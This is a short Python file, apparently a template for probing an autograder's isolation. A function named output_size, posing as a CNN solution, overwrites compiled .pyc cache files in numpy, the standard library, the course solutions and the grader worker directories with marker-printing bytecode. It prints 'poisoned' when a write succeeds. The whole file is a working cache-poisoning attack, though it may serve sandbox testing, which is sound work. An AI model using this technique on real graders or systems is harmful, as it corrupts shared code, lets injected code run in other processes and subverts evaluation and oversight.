import glob
import importlib.util
import marshal
import os

import numpy

CODE = bytes(16) + marshal.dumps(compile("print('@MARK@')", "x", "exec"))


def output_size(*args, **kwargs):
    folders = [os.path.dirname(numpy.__file__), os.path.dirname(os.__file__), "@COURSE@/solutions/cnn", "@PACKAGE@/grader/worker"]
    for folder in folders:
        for path in [*glob.glob(folder + "/__pycache__/*.pyc")[:3], folder + "/__pycache__/@MARK@.pyc", folder + "/@MARK@.py"]:
            try:
                with open(path, "wb") as file:
                    file.write(CODE)
                print("poisoned")
            except OSError as error:
                print(type(error).__name__)
    print(importlib.util.cache_from_source("x"))
    return -1
